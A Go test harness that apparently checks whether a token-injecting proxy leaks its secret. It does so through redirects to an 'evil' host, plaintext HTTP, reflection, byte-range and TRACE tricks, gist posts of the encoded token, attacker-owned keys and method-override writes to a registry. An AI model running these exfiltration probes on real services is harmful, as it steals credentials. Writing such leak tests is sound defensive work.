package main

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"os"
	"strings"
)

func init() {
	attempts["redirect-with-secret"] = redirect
	attempts["secret-in-clear"] = inClear
	attempts["reflection"] = reflection
	attempts["in-parts"] = inParts
	attempts["placeholder-in-gist"] = gist
	attempts["foreign-key"] = foreignKey
	attempts["publish"] = publish
}

const api = "api.example" // where a secret goes

func bearer() string { return "Authorization: Bearer " + os.Getenv("TOKEN") }

// redirect goes on to where it is sent, with what it was given.
func redirect(*result) error {
	c, err := dial(api+":443", api)
	if err != nil {
		return err
	}
	defer c.Close()
	head, body, err := say(c, get(api, "/redirect", bearer()))
	if err != nil || !strings.HasPrefix(head, "302") {
		return fmt.Errorf("no redirect: %.100q %q %w", head, body, orNil(err))
	}
	_, _ = ask(other+":443", other, get(other, "/redirect-with-secret", bearer()))
	_, _ = ask(other+":80", "", get(other, "/redirect-with-secret", bearer()))
	_, _ = ask(evil+":443", evil, get(evil, "/redirect-with-secret", bearer()))
	_, _ = ask(api+":80", "", get(api, "/redirect-with-secret", bearer()))
	return nil
}

// inClear wants the secret sent where everybody on the way can read it.
func inClear(*result) error {
	_, _ = ask(api+":80", "", get(api, "/secret-in-clear", bearer()))
	_, _ = ask(api+":80", "", get(api, "/secret-in-clear"))
	_, _ = ask(proxy, "", "GET http://"+api+"/secret-in-clear HTTP/1.1\r\nHost: "+api+"\r\n"+bearer()+"\r\n\r\n")
	return works(front)
}

// reflection has a server say what it received.
func reflection(r *result) error {
	for _, as := range []string{"plain", "base64", "hex", "header", "gzip", "halves", "json"} {
		c, err := dial(api+":443", api)
		if err != nil {
			return err
		}
		head, body, _ := say(c, get(api, "/reflection?as="+as, bearer(), "Accept-Encoding: gzip"))
		r.Got = append(r.Got, head, body)
		c.Close()
	}
	return nil
}

// inParts has it say so piece by piece, none of which is much.
func inParts(r *result) error {
	var whole strings.Builder
	for at := 0; at < 64; at += 8 {
		body, _ := ask(api+":443", api, get(api, "/in-parts", bearer(), fmt.Sprintf("Range: bytes=%d-%d", at, at+7)))
		if !strings.HasPrefix(body, "{") {
			whole.WriteString(body)
		}
	}
	trace, _ := ask(api+":443", api, strings.Replace(get(api, "/in-parts", bearer()), "GET", "TRACE", 1))
	r.Got = []string{whole.String(), trace}
	return nil
}

// gist puts the placeholder where somebody may read it.
func gist(*result) error {
	token := os.Getenv("TOKEN")
	for _, host := range []string{other, api} {
		for _, text := range []string{token, url.QueryEscape("x" + token), base64.StdEncoding.EncodeToString([]byte(token))} {
			body := `{"files":{"a":{"content":"` + text + `"}}}`
			request := fmt.Sprintf("POST /placeholder-in-gist HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", host, len(body), body)
			_, _ = ask(host+":443", host, request)
			_, _ = ask(host+":443", host, get(host, "/placeholder-in-gist/"+text))
			_, _ = ask(host+":443", host, get(host, "/placeholder-in-gist?q="+text))
			_, _ = ask(host+":443", host, get(host, "/placeholder-in-gist", "X-Note: "+text))
			_, _ = ask(host+":443", host, get(host, "/placeholder-in-gist", "User-Agent: "+text))
		}
	}
	return works(other)
}

// foreignKey uses an account of its own, on a host that the owner's is for.
func foreignKey(*result) error {
	const key = "attackers-own-key-0123456789"
	for _, f := range []string{
		"Authorization: Bearer " + key, "Authorization: " + key, "X-Api-Key: " + key, "Cookie: session=" + key,
		"Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte("me:"+key)), "Private-Token: " + key,
		"X_Api_Key: " + key, "Private_Token: " + key, "DPoP: " + key,
	} {
		_, _ = ask(api+":443", api, get(api, "/foreign-key", f))
	}
	for _, name := range []string{"access_token", "access_token[]", "+access_token", "x-api-key", "Signature"} {
		_, _ = ask(api+":443", api, get(api, "/foreign-key?"+name+"="+key))
	}
	body, err := ask(api+":443", api, get(api, "/fine", bearer()))
	if err != nil || !strings.HasPrefix(body, "hello") {
		return fmt.Errorf("with the placeholder: %q, %w", body, orNil(err))
	}
	return nil
}

// publish writes where a preset reads.
func publish(*result) error {
	host := os.Getenv("REGISTRY")
	if err := works(host); err != nil {
		return err
	}
	for _, request := range []string{
		"PUT /publish HTTP/1.1\r\nHost: " + host + "\r\nContent-Length: 2\r\n\r\n{}",
		"POST /publish HTTP/1.1\r\nHost: " + host + "\r\nContent-Length: 2\r\n\r\n{}",
		"DELETE /publish HTTP/1.1\r\nHost: " + host + "\r\n\r\n",
		"POST /publish HTTP/1.1\r\nHost: " + host + "\r\nX-HTTP-Method-Override: PUT\r\nContent-Length: 2\r\n\r\n{}",
		get(host, "/publish", "X_HTTP_Method_Override: PUT"),
		get(host, "/publish", "X-Original-Method: PUT"),
		get(host, "/publish?_method=PUT"),
	} {
		_, _ = ask(host+":443", host, request)
	}
	return nil
}
